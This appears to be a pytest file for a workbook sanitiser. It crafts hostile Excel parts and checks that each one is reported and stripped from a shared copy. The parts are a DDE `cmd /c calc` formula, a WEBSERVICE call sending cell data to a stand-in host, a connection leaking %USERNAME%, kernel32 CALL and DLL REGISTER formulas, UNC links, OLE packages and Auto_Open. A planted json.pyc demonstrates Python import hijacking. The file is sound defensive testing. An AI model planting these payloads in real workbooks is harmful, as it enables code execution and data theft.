"""A corpus of hostile received workbooks, one built case per hazard: each is reported by
``check``, absent from the shared copy (its marker text appears in no member), the copy's
ordinary values are the original's, and ``check`` on the copy is clean. One workbook with
every case at once is opened in LibreOffice after sharing.

Cached values are synthetic numbers standing in for what Excel would have saved.
"""

from __future__ import annotations

import zipfile

import openpyxl
import pytest

from perphedge.files import check as ck
from perphedge.files.share import ShareError, share_file
from tests.support.books import build_market_book, rewrite_parts

NS_R = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
PORTFOLIO = "xl/worksheets/sheet1.xml"
#: Findings a copy may still have: market age and saved error values are not hazards.
BENIGN = {"stale-market", "error-cell"}


def cell(parts, xml: str, row: int = 2) -> None:
    """Append a cell (its XML) to a row of the Portfolio sheet."""
    s = parts[PORTFOLIO].decode()
    end = s.index("</row>", s.index(f'<row r="{row}"'))
    parts[PORTFOLIO] = (s[:end] + xml + s[end:]).encode()


def rel(parts, source_rels: str, rid: str, typ: str, target: str, external: bool = False) -> None:
    mode = ' TargetMode="External"' if external else ""
    new = f'<Relationship Id="{rid}" Type="{typ}" Target="{target}"{mode}/>'
    if source_rels in parts:
        parts[source_rels] = parts[source_rels].decode().replace(
            "</Relationships>", new + "</Relationships>").encode()
    else:
        parts[source_rels] = ('<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="'
                              'http://schemas.openxmlformats.org/package/2006/relationships">'
                              f"{new}</Relationships>").encode()


def override(parts, part: str, ctype: str) -> None:
    parts["[Content_Types].xml"] = parts["[Content_Types].xml"].decode().replace(
        "</Types>", f'<Override PartName="/{part}" ContentType="{ctype}"/></Types>').encode()


def sheet_child(parts, xml: str, before: str = "</worksheet>") -> None:
    s = parts[PORTFOLIO].decode()
    root = s.index("<worksheet")
    if "xmlns:r=" not in s[root: s.index(">", root)]:
        s = s.replace("<worksheet ", f'<worksheet xmlns:r="{NS_R}" ', 1)
    at = s.index(before) if before in s else s.index("</worksheet>")
    parts[PORTFOLIO] = (s[:at] + xml + s[at:]).encode()


def workbook(parts, old: str, new: str) -> None:
    s = parts["xl/workbook.xml"].decode()
    assert old in s, old
    parts["xl/workbook.xml"] = s.replace(old, new, 1).encode()


def names(parts, xml: str) -> None:
    workbook(parts, "</definedNames>", xml + "</definedNames>")


# ----------------------------------------------------------------------------- the cases
# name -> (craft, marker that must not reach the copy, finding kind check must report)

def external_formula_text(parts):
    cell(parts, """<c r="F2"><f>'[other-MARK1.xlsx]Sheet1'!A1</f><v>1</v></c>""")


def external_path_and_unc(parts):
    cell(parts, """<c r="G2"><f>'C:\\MARK2\\[a.xlsx]S'!A1+'\\\\srv\\MARK2\\[b.xlsx]S'!A1</f>"""
         "<v>2</v></c>")


def dde(parts):
    cell(parts, """<c r="H2"><f>cmd|' /c calc MARK3'!A0</f><v>3</v></c>""")
    cell(parts, """<c r="H3"><f>MARK3app|topic!item</f><v>3</v></c>""", row=3)


def data_leaving(parts):
    cell(parts, '<c r="I2" t="str"><f>WEBSERVICE("http://x.test/MARK4?"&amp;A2)</f><v>w</v></c>')
    cell(parts, '<c r="J2" t="str"><f>FILTERXML("&lt;a&gt;MARK4&lt;/a&gt;","//a")</f><v>f</v></c>')
    cell(parts, '<c r="K2"><f>RTD("MARK4.server",,"x")</f><v>4</v></c>')
    cell(parts, '<c r="L2"><f>CALL("kernel32","MARK4","J")</f><v>4</v></c>')
    cell(parts, '<c r="M2"><f>REGISTER("MARK4.dll","f")</f><v>4</v></c>')


def file_hyperlinks(parts):
    cell(parts, '<c r="N2" t="str"><f>HYPERLINK("file:///C:/MARK5/x.txt","open")</f>'
         "<v>open</v></c>")
    sheet_child(parts, '<hyperlinks><hyperlink ref="A2" r:id="rIdH5"/></hyperlinks>',
                before="<pageMargins")
    rel(parts, "xl/worksheets/_rels/sheet1.xml.rels", "rIdH5", NS_R + "/hyperlink",
        "\\\\MARK5-server\\share\\x.xlsx", external=True)


def ole_package(parts):
    parts["xl/embeddings/oleObject1.bin"] = b"\xd0\xcf\x11\xe0MARK6 package payload"
    parts["xl/embeddings/Microsoft_Word_Document1.docx"] = b"PK MARK6 embedded document"
    sheet_child(parts, '<oleObjects><oleObject progId="Package" shapeId="1025" r:id="rIdO6"/>'
                "</oleObjects>")
    rel(parts, "xl/worksheets/_rels/sheet1.xml.rels", "rIdO6", NS_R + "/oleObject",
        "../embeddings/oleObject1.bin")
    rel(parts, "xl/worksheets/_rels/sheet1.xml.rels", "rIdP6", NS_R + "/package",
        "../embeddings/Microsoft_Word_Document1.docx")
    override(parts, "xl/embeddings/oleObject1.bin",
             "application/vnd.openxmlformats-officedocument.oleObject")


def connections(parts):
    parts["xl/connections.xml"] = (
        b'<?xml version="1.0" encoding="UTF-8"?><connections xmlns="http://schemas.openxmlformats'
        b'.org/spreadsheetml/2006/main"><connection id="1" name="web" type="4" refreshOnLoad="1">'
        b'<webPr url="http://x.test/MARK7?u=%USERNAME%"/></connection><connection id="2" '
        b'name="odbc" type="1" refreshOnLoad="1"><dbPr connection="DSN=x;UID=a;PWD=MARK7"/>'
        b"</connection></connections>")
    rel(parts, "xl/_rels/workbook.xml.rels", "rIdC7", NS_R + "/connections", "connections.xml")
    override(parts, "xl/connections.xml",
             "application/vnd.openxmlformats-officedocument.spreadsheetml.connections+xml")


def power_query(parts):
    parts["customXml/item1.xml"] = (
        b'<?xml version="1.0" encoding="utf-16"?><DataMashup xmlns="http://schemas.microsoft.com/'
        b'DataMashup">MARK8UEsDBBQAAgAIAA==</DataMashup>')
    rel(parts, "xl/_rels/workbook.xml.rels", "rIdQ8", NS_R + "/customXml", "../customXml/item1.xml")


def chart_linked(parts):
    from tests.support.books import add_picture

    add_picture(parts, PORTFOLIO, b"\x89PNG")
    drawing = "xl/drawings/drawing90.xml"
    d = parts[drawing].decode()
    anchor = ('<xdr:twoCellAnchor><xdr:from><xdr:col>5</xdr:col><xdr:colOff>0</xdr:colOff>'
              '<xdr:row>5</xdr:row><xdr:rowOff>0</xdr:rowOff></xdr:from><xdr:to><xdr:col>9'
              '</xdr:col><xdr:colOff>0</xdr:colOff><xdr:row>15</xdr:row><xdr:rowOff>0'
              '</xdr:rowOff></xdr:to><xdr:graphicFrame macro=""><xdr:nvGraphicFramePr>'
              '<xdr:cNvPr id="9" name="Chart"/><xdr:cNvGraphicFramePr/></xdr:nvGraphicFramePr>'
              '<xdr:xfrm><a:off x="0" y="0"/><a:ext cx="0" cy="0"/></xdr:xfrm><a:graphic>'
              '<a:graphicData uri="http://schemas.openxmlformats.org/drawingml/2006/chart">'
              f'<c:chart xmlns:c="http://schemas.openxmlformats.org/drawingml/2006/chart" '
              f'xmlns:r="{NS_R}" r:id="rIdCh9"/></a:graphicData></a:graphic></xdr:graphicFrame>'
              '<xdr:clientData/></xdr:twoCellAnchor>')
    at = d.rindex("</xdr:wsDr>")
    parts[drawing] = (d[:at] + anchor + d[at:]).encode()
    dr = drawing.rsplit("/", 1)
    rel(parts, f"{dr[0]}/_rels/{dr[1]}.rels", "rIdCh9", NS_R + "/chart", "../charts/chart9.xml")
    parts["xl/charts/chart9.xml"] = (
        b'<?xml version="1.0" encoding="UTF-8"?><c:chartSpace xmlns:c="http://schemas.'
        b'openxmlformats.org/drawingml/2006/chart" xmlns:a="http://schemas.openxmlformats.org/'
        b'drawingml/2006/main"><c:chart><c:plotArea><c:lineChart><c:grouping val="standard"/>'
        b'<c:ser><c:idx val="0"/><c:order val="0"/><c:val><c:numRef><c:f>[1]MARK9!$A$1:$A$3'
        b'</c:f></c:numRef></c:val></c:ser><c:axId val="1"/><c:axId val="2"/></c:lineChart>'
        b'</c:plotArea></c:chart></c:chartSpace>')
    override(parts, "xl/charts/chart9.xml",
             "application/vnd.openxmlformats-officedocument.drawingml.chart+xml")


def addin_in_formats(parts):
    sheet_child(parts, '<conditionalFormatting sqref="A2:A4"><cfRule type="expression" '
                'priority="1"><formula>HEDGE_SIZE(A2,0.5)&gt;0</formula></cfRule>'
                "</conditionalFormatting>", before="<dataValidations")
    s = parts[PORTFOLIO].decode()
    parts[PORTFOLIO] = s.replace(
        "</dataValidations>", '<dataValidation type="custom" sqref="D2"><formula1>'
        "FUNDING_APR(D2)&gt;0</formula1></dataValidation></dataValidations>").replace(
        '<dataValidations count="1">', '<dataValidations count="2">').encode()


def name_chains(parts):
    names(parts, '<definedName name="ChainA">HEDGE_SIZE(1,0.5)</definedName>'
          '<definedName name="ChainB">ChainA*2</definedName>'
          '<definedName name="MyFn">LAMBDA(_xlpm.x,HEDGE_SIZE(_xlpm.x,1))</definedName>'
          '<definedName name="LocalHedge" localSheetId="0">FUNDING_APR(0.0001)</definedName>')
    cell(parts, "<c r=\"O2\"><f>ChainB+1</f><v>11</v></c>")
    cell(parts, "<c r=\"P2\"><f>MyFn(3)</f><v>12</v></c>")
    cell(parts, "<c r=\"Q2\"><f>LocalHedge</f><v>13</v></c>")


def shared_master_after(parts):
    cell(parts, '<c r="R2"><f t="shared" si="7"/><v>21</v></c>')
    cell(parts, '<c r="R3"><f t="shared" ref="R2:R3" si="7">HEDGE_SIZE(B3,0.5)</f><v>22</v></c>',
         row=3)


def auto_open(parts):
    names(parts, '<definedName name="Auto_Open">Portfolio!$A$1</definedName>')


def hidden_sheets(parts):
    rel(parts, "xl/_rels/workbook.xml.rels", "rIdS1", NS_R + "/worksheet", "worksheets/sheet91.xml")
    rel(parts, "xl/_rels/workbook.xml.rels", "rIdS2", NS_R + "/worksheet", "worksheets/sheet92.xml")
    for n, text in (("91", "MARK10 hidden"), ("92", "MARK10 very hidden")):
        parts[f"xl/worksheets/sheet{n}.xml"] = (
            '<?xml version="1.0" encoding="UTF-8"?><worksheet xmlns="http://schemas.openxmlformats'
            '.org/spreadsheetml/2006/main"><sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>'
            f"{text}</t></is></c></row></sheetData></worksheet>").encode()
        override(parts, f"xl/worksheets/sheet{n}.xml",
                 "application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml")
    workbook(parts, "</sheets>", f'<sheet xmlns:r="{NS_R}" name="Secret" sheetId="91" '
             f'state="hidden" r:id="rIdS1"/><sheet xmlns:r="{NS_R}" name="Deep" sheetId="92" '
             'state="veryHidden" r:id="rIdS2"/></sheets>')


def prefixed_namespace(parts):
    s = parts[PORTFOLIO].decode()
    cellx = '<x:c xmlns:x="http://schemas.openxmlformats.org/spreadsheetml/2006/main" r="S2">' \
            "<x:f>HEDGE_SIZE(1,0.5)</x:f><x:v>31</x:v></x:c>"
    end = s.index("</row>", s.index('<row r="2"'))
    parts[PORTFOLIO] = (s[:end] + cellx + s[end:]).encode()


def settings_strings_and_identity(parts):
    """A settings sheet whose text lives in the shared strings, personal document
    properties, custom properties and the folder the workbook was saved in."""
    sst = ('<?xml version="1.0" encoding="UTF-8"?><sst xmlns="http://schemas.openxmlformats.org/'
           'spreadsheetml/2006/main" count="2" uniqueCount="2"><si><t>Interpreter_Win</t></si>'
           "<si><t>C:\\Users\\MARK11\\python.exe</t></si></sst>")
    parts["xl/sharedStrings.xml"] = sst.encode()
    rel(parts, "xl/_rels/workbook.xml.rels", "rIdSS", NS_R + "/sharedStrings", "sharedStrings.xml")
    override(parts, "xl/sharedStrings.xml",
             "application/vnd.openxmlformats-officedocument.spreadsheetml.sharedStrings+xml")
    parts["xl/worksheets/sheet93.xml"] = (
        b'<?xml version="1.0" encoding="UTF-8"?><worksheet xmlns="http://schemas.openxmlformats'
        b'.org/spreadsheetml/2006/main"><sheetData><row r="1"><c r="A1" t="s"><v>0</v></c>'
        b'<c r="B1" t="s"><v>1</v></c></row></sheetData></worksheet>')
    override(parts, "xl/worksheets/sheet93.xml",
             "application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml")
    rel(parts, "xl/_rels/workbook.xml.rels", "rIdS3", NS_R + "/worksheet", "worksheets/sheet93.xml")
    workbook(parts, "</sheets>", f'<sheet xmlns:r="{NS_R}" name="myaddin.conf" sheetId="93" '
             'r:id="rIdS3"/></sheets>')
    core = parts["docProps/core.xml"].decode()
    parts["docProps/core.xml"] = core.replace(
        "</cp:coreProperties>", "<cp:lastModifiedBy>MARK11 Alice</cp:lastModifiedBy>"
        "</cp:coreProperties>").replace("<dc:creator>openpyxl</dc:creator>",
                                        "<dc:creator>MARK11 Alice</dc:creator>").encode()
    parts["docProps/app.xml"] = parts["docProps/app.xml"].decode().replace(
        "</Properties>", "<Company>MARK11 Corp</Company></Properties>").encode()
    parts["docProps/custom.xml"] = (
        b'<?xml version="1.0" encoding="UTF-8"?><Properties xmlns="http://schemas.openxmlformats'
        b'.org/officeDocument/2006/custom-properties" xmlns:vt="http://schemas.openxmlformats.org'
        b'/officeDocument/2006/docPropsVTypes"><property fmtid="{D5CDD505-2E9C-101B-9397-'
        b'08002B2CF9AE}" pid="2" name="Owner"><vt:lpwstr>MARK11</vt:lpwstr></property>'
        b"</Properties>")
    rel(parts, "_rels/.rels", "rIdCu", NS_R + "/custom-properties", "docProps/custom.xml")
    override(parts, "docProps/custom.xml",
             "application/vnd.openxmlformats-officedocument.custom-properties+xml")
    workbook(parts, "<workbookPr", '<mc:AlternateContent xmlns:mc="http://schemas.openxml'
             'formats.org/markup-compatibility/2006"><mc:Choice Requires="x15"><x15ac:absPath '
             'xmlns:x15ac="http://schemas.microsoft.com/office/spreadsheetml/2010/11/ac" '
             'url="C:\\Users\\MARK11\\Desktop\\"/></mc:Choice></mc:AlternateContent><workbookPr')


def comment_author(parts):
    c = next(n for n in parts if "comments" in n and n.endswith(".xml"))
    s = parts[c].decode()
    i = s.index("<author>") + len("<author>")
    parts[c] = (s[:i] + "MARK12 Bob" + s[s.index("</author>"):]).encode()


CASES = {
    "external-formula-text": (external_formula_text, b"MARK1", "external-link"),
    "external-path-and-unc": (external_path_and_unc, b"MARK2", "external-link"),
    "dde": (dde, b"MARK3", "formula"),
    "webservice-filterxml-rtd-call-register": (data_leaving, b"MARK4", "formula"),
    "file-and-unc-hyperlinks": (file_hyperlinks, b"MARK5", "external-link"),
    "ole-package-and-embedded-document": (ole_package, b"MARK6", "element"),
    "connections": (connections, b"MARK7", "part"),
    "power-query": (power_query, b"MARK8", "part"),
    "chart-series-in-another-workbook": (chart_linked, b"MARK9", "external-link"),
    "hidden-and-very-hidden-sheets": (hidden_sheets, b"MARK10", "hidden-sheet"),
    "settings-strings-identity-abspath": (settings_strings_and_identity, b"MARK11", "config-sheet"),
    "comment-author": (comment_author, b"MARK12", None),
    "addin-in-formats-and-validations": (addin_in_formats, b"HEDGE_SIZE", "addin-formula"),
    "name-chains-lambda-local": (name_chains, b"HEDGE_SIZE", "addin-formula"),
    "shared-master-after-dependents": (shared_master_after, b"HEDGE_SIZE", "addin-formula"),
    "prefixed-main-namespace": (prefixed_namespace, b"HEDGE_SIZE", "addin-formula"),
    "auto-open-name": (auto_open, b"Auto_Open", "name"),
}


def assert_only_in_notes_of_replaced_formulas(comments: bytes, marker: bytes) -> None:
    """A removed formula's text is kept, inert, in its cell's note; nowhere else may a
    marker be (an author's name, another note)."""
    from lxml import etree

    root = etree.fromstring(comments)
    m = "{http://schemas.openxmlformats.org/spreadsheetml/2006/main}"
    assert all(marker.decode() not in (a.text or "") for a in root.iter(m + "author"))
    for c in root.iter(m + "comment"):
        text = "".join(t.text or "" for t in c.iter(m + "t"))
        if marker.decode() in text:
            assert text.startswith("Was ="), text


def members(path):
    with zipfile.ZipFile(path) as z:
        return {n: z.read(n) for n in z.namelist()}


def market_values(path):
    ws = openpyxl.load_workbook(path, read_only=True)["Market"]
    return [[c.value for c in r] for r in ws.iter_rows()]


@pytest.mark.parametrize("case", sorted(CASES))
def test_each_hazard_is_reported_and_absent_from_the_copy(tmp_path, case):
    craft, marker, kind = CASES[case]
    book = build_market_book(tmp_path / "in.xlsx")
    rewrite_parts(book, craft)
    found = [f for f in ck.check_file(book, max_age_hours=1e9) if f.kind not in BENIGN]
    if kind is not None:
        assert kind in {f.kind for f in found}, found
    out = tmp_path / "out.xlsx"
    share_file(book, out)
    for name, data in members(out).items():
        if name.startswith("xl/comments/"):
            assert_only_in_notes_of_replaced_formulas(data, marker)
            continue
        assert marker not in data, (name, marker)
        assert marker.decode().encode("utf-16-le") not in data, (name, marker)
    assert market_values(out) == market_values(book)
    assert [f for f in ck.check_file(out, max_age_hours=1e9) if f.kind not in BENIGN] == []


def test_cached_values_and_notes_stand_in_for_removed_formulas(tmp_path):
    book = build_market_book(tmp_path / "in.xlsx")
    rewrite_parts(book, lambda p: (name_chains(p), shared_master_after(p), data_leaving(p)))
    out = tmp_path / "out.xlsx"
    res = share_file(book, out)
    ws = openpyxl.load_workbook(out)["Portfolio"]
    assert (ws["O2"].value, ws["P2"].value, ws["Q2"].value) == (11, 12, 13)
    assert (ws["R2"].value, ws["R3"].value) == (21, 22)
    assert "=HEDGE_SIZE(B2,0.5)" in ws["R2"].comment.text      # the dependent's own formula
    assert ws["I2"].value == "w" and "WEBSERVICE" in ws["I2"].comment.text
    copy = openpyxl.load_workbook(out)
    assert not {"ChainA", "ChainB", "MyFn"} & set(copy.defined_names)
    assert {(r.kind, r.where) for r in res.left_out} >= {
        ("addin-formula", "name ChainA"), ("addin-formula", "name ChainB"),
        ("addin-formula", "name MyFn"), ("addin-formula", "name Portfolio!LocalHedge")}


def test_a_formula_without_a_saved_value_is_listed_not_silently_blanked(tmp_path):
    book = build_market_book(tmp_path / "in.xlsx")
    rewrite_parts(book, lambda p: cell(p, '<c r="F2"><f>WEBSERVICE("http://x.test")</f></c>'))
    res = share_file(book, tmp_path / "out.xlsx")
    assert res.no_value == ("Portfolio!F2",)
    from perphedge.cli import main

    assert main(["share", str(book), str(tmp_path / "out2.xlsx")]) == 0


def test_when_the_final_check_fails_there_is_no_output(tmp_path, monkeypatch):
    from perphedge.files import share

    book = build_market_book(tmp_path / "in.xlsx")

    def finds_something(tmp):
        raise ShareError("the copy still has what a shared copy may not")
    monkeypatch.setattr(share, "_verify", finds_something)
    with pytest.raises(ShareError):
        share_file(book, tmp_path / "out.xlsx")
    assert not (tmp_path / "out.xlsx").exists()
    assert [p.name for p in tmp_path.iterdir()] == ["in.xlsx"]


def test_the_copy_with_every_hazard_opens_in_libreoffice_with_its_values(tmp_path):
    from perphedge.template.libreoffice import recalculate
    from tests.conftest import require_libreoffice

    require_libreoffice()
    book = build_market_book(tmp_path / "in.xlsx")
    # the chart case first: it gives the Portfolio sheet its relationships part
    crafts = [chart_linked] + [c for c, _, _ in CASES.values() if c is not chart_linked]
    rewrite_parts(book, lambda p: [craft(p) for craft in crafts])
    out = tmp_path / "out.xlsx"
    share_file(book, out)
    back = recalculate(out, tmp_path / "lo.xlsx")
    values = openpyxl.load_workbook(back, data_only=True)
    ws = values["Market"]
    assert [[c.value for c in r] for r in ws.iter_rows(max_col=4)] == \
        [r[:4] for r in market_values(book)]
    port = values["Portfolio"]
    assert (port["O2"].value, port["R2"].value, port["R3"].value, port["H2"].value) == (11, 21, 22, 3)
    assert isinstance(port["B2"].value, (int, float))        # a native formula recalculated
    assert values.sheetnames == ["Shared copy", "Portfolio", "Market", "Notes"]


# ----------------------------------------------------------------------------- beside the workbook

@pytest.mark.parametrize("name", ["json.pyc", "json.cpython-311-x86_64-linux-gnu.so", "json.pyd",
                                  "sitecustomize.py", "usercustomize.pyc", "evil.pth"])
def test_code_python_would_run_beside_the_workbook_is_reported(tmp_path, name):
    book = build_market_book(tmp_path / "in.xlsx")
    (tmp_path / name).write_bytes(b"\0")
    found = [f.where for f in ck.check_file(book, max_age_hours=1e9) if f.kind == "config-file"]
    assert found == [str(tmp_path / name)]


def test_a_namespace_folder_and_a_linked_backup_are_reported(tmp_path):
    book = build_market_book(tmp_path / "in.xlsx")
    (tmp_path / "numpy").mkdir()                      # no __init__.py: a namespace folder
    (tmp_path / "elsewhere.xlsx").write_bytes(b"x")
    (tmp_path / "in.xlsx.bak").symlink_to(tmp_path / "elsewhere.xlsx")
    found = {f.where for f in ck.check_file(book, max_age_hours=1e9) if f.kind == "config-file"}
    assert found == {str(tmp_path / "numpy"), str(tmp_path / "in.xlsx.bak")}


def test_a_planted_json_pyc_is_what_python_b_would_import(tmp_path):
    """Why .pyc counts: ``python -B -c "import json"`` run in the workbook's folder (how
    the add-in's VBA starts Python) imports a json.pyc found there."""
    import py_compile
    import subprocess
    import sys

    src = tmp_path / "src" / "json.py"
    src.parent.mkdir()
    src.write_text("PLANTED = True\n")
    py_compile.compile(str(src), cfile=str(tmp_path / "json.pyc"))
    run = subprocess.run([sys.executable, "-B", "-c", "import json; print(getattr(json, 'PLANTED', False))"],
                         cwd=tmp_path, capture_output=True, text=True, timeout=60)
    assert run.stdout.strip() == "True"
    book = build_market_book(tmp_path / "in.xlsx")
    assert str(tmp_path / "json.pyc") in {f.where for f in ck.check_file(book, max_age_hours=1e9)}
